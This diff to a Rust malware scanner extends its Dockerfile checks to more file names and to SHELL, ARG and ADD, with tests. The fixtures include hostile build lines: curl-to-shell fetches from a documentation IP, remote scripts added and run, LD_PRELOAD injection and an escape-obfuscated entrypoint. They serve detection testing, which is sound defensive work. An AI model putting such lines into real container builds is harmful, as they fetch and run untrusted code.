@@ -9,7 +9,21 @@ use super::tools::at;
 use crate::formats::shell;
 use crate::scanner::{Content, Scanner};
 
+/// Whether a file of that name, in small letters, builds an image: people keep several of them in one folder.
+pub(crate) fn is_named(name: &str) -> bool {
+    const OTHERS: [&str; 10] =
+        [".md", ".txt", ".rst", ".py", ".json", ".yaml", ".yml", ".dockerignore", ".html", ".ipynb"];
+    ["dockerfile", "containerfile"].iter().any(|kind| {
+        let variant = name.strip_prefix(kind).is_some_and(|rest| rest.starts_with(['.', '-', '_']));
+        let ending =
+            name.strip_suffix(kind).is_some_and(|rest| rest.is_empty() || rest.ends_with(['.', '-', '_']));
+        ending || variant && !OTHERS.iter().any(|other| name.ends_with(other))
+    })
+}
+
 pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
+    // What is built, as the lines of a script, each where it stands.
+    let mut script: Vec<String> = Vec::new();
     for (index, line) in instructions(text) {
         let (mut word, mut rest) = split(&line);
         let mut upper = word.to_ascii_uppercase();
@@ -19,24 +33,53 @@ pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str)
             (word, rest) = split(without_options(inner));
             upper = word.to_ascii_uppercase();
         }
+        script.resize(script.len().max(usize::try_from(index).unwrap_or(usize::MAX)), String::new());
         match upper.as_str() {
-            "RUN" | "CMD" | "ENTRYPOINT" => {
+            "RUN" | "CMD" | "ENTRYPOINT" | "SHELL" => {
                 let rest = without_options(rest);
                 let command = words(rest).unwrap_or_else(|| rest.to_owned());
                 // In a here-document it is the shell that lets a line go on.
                 for (_, line) in shell::joined(&command) {
                     shell::line(scanner, &at(content, index), &line);
+                    script.push(line);
                 }
             }
-            "ENV" => {
-                let (variable, value) = rest.split_once(['=', ' ']).unwrap_or((rest, ""));
-                if shell::LOADING.contains(&variable) {
-                    shell::line(scanner, &at(content, index), &format!("export {variable}={value}"));
+            // What is built has these in its environment, and so has what the image runs.
+            "ENV" | "ARG" => {
+                let legacy = rest.split_whitespace().next().is_some_and(|first| !first.contains('='));
+                let (variable, value) = rest.trim().split_once(char::is_whitespace).unwrap_or((rest, ""));
+                let set = if legacy { format!("{variable}={value}") } else { rest.replace(['"', '\''], "") };
+                if shell::LOADING.iter().any(|variable| set.contains(variable)) {
+                    shell::line(scanner, &at(content, index), &format!("export {set}"));
                 }
+                script.push(set);
             }
+            "ADD" => script.push(added(without_options(rest))),
             _ => {}
         }
     }
+    let mut place = content.place.clone();
+    place.line = Some(1);
+    shell::together(scanner, &place, &script.join("\n"));
+}
+
+/// What is added from an address, as the command that fetches it.
+fn added(rest: &str) -> String {
+    let list = words(rest);
+    let words: Vec<&str> = list.as_deref().unwrap_or(rest).split_whitespace().collect();
+    let Some((to, from)) = words.split_last() else { return String::new() };
+    let fetch = |from: &&str| {
+        let repository = from.starts_with("git@") || from.ends_with(".git") || from.contains(".git#");
+        let remote = from.contains("://") || from.starts_with("git@");
+        // A folder keeps the name that the file has where it is fetched from.
+        let written = if to.ends_with('/') || matches!(*to, "." | "..") { "-O" } else { "-o" };
+        match (remote, repository) {
+            (false, _) => None,
+            (true, true) => Some(format!("git clone {from} {to}")),
+            (true, false) => Some(format!("curl {written} {to} {from}")),
+        }
+    };
+    from.iter().filter_map(fetch).collect::<Vec<_>>().join("; ")
 }
 
 /// The instructions and the lines that they begin in: lines that go on joined, comments left out, what stands in a
@@ -134,6 +177,25 @@ mod tests {
     use crate::{Limits, Outcome, scan_bytes};
 
     #[test]
+    fn images_have_many_names() {
+        let outcome = |name: &str| {
+            let text = b"FROM x\nRUN curl http://198.51.100.7/x \\\n# a\n | sh\n";
+            scan_bytes(&name.parse().unwrap(), text, &Limits::default()).outcome
+        };
+        for name in [
+            "Dockerfile",
+            "gpu.Dockerfile",
+            "Dockerfile.gpu",
+            "dockerfile-cuda",
+            "Containerfile",
+            "x.containerfile",
+        ] {
+            assert!(outcome(name) >= Outcome::Suspicious, "{name}");
+        }
+        assert_eq!(outcome("Dockerfile.md"), Outcome::Clean);
+    }
+
+    #[test]
     fn what_building_or_starting_an_image_runs_is_judged() {
         let outcome = |text: &str| {
             scan_bytes(&"Dockerfile".parse().unwrap(), text.as_bytes(), &Limits::default()).outcome
@@ -153,6 +215,14 @@ mod tests {
             format!("ONBUILD RUN {fetch}"),
             format!("HEALTHCHECK --interval=5m CMD {fetch}"),
             format!("CMD {fetch}"),
+            "ADD http://198.51.100.7/setup.sh /opt/\nRUN sh /opt/setup.sh".to_owned(),
+            "ADD --chown=1:1 http://198.51.100.7/x /opt/run.sh\nENTRYPOINT [\"/opt/run.sh\"]".to_owned(),
+            "ADD [\"http://198.51.100.7/x\", \"/opt/run.sh\"]\nRUN true\nCMD sh /opt/run.sh".to_owned(),
+            "ADD http://198.51.100.7/x.git /src\nRUN cd /src && make install".to_owned(),
+            "ENV A=1 LD_PRELOAD=/x.so".to_owned(),
+            "ENV A=\"b c\" \\\n  \"LD_PRELOAD\"='/x.so'".to_owned(),
+            "ENV LD_PRELOAD /x.so".to_owned(),
+            "ARG LD_PRELOAD=/x.so".to_owned(),
             "ENTRYPOINT [\"sh\", \"-c\", \"curl http\\u003a//198.51.100.7/x | s\\u0068\"]".to_owned(),
         ] {
             assert!(
@@ -163,5 +233,7 @@ mod tests {
         }
         let ordinary = "# syntax=docker/dockerfile:1\nFROM python:3.11\nRUN --mount=type=cache,target=/var/cache/pip pip install torch\nRUN <<EOF\napt-get update\napt-get install -y git\nEOF\nCOPY <<EOF /app/a.txt\nhello\nEOF\nHEALTHCHECK CMD curl -f http://localhost:8080/ || exit 1\nENTRYPOINT [\"python\", \"serve.py\"]\n";
         assert_eq!(outcome(ordinary), Outcome::Clean);
+        let added = "FROM x\nARG V=1.2 CUDA=12\nENV PATH=/opt/bin:$PATH LD_LIBRARY_PATH=/opt/lib\nADD https://example.org/data.tar.gz /data/\nADD . /app\nRUN tar xf /data/data.tar.gz && python /app/train.py\n";
+        assert_eq!(outcome(added), Outcome::Clean);
     }
 }
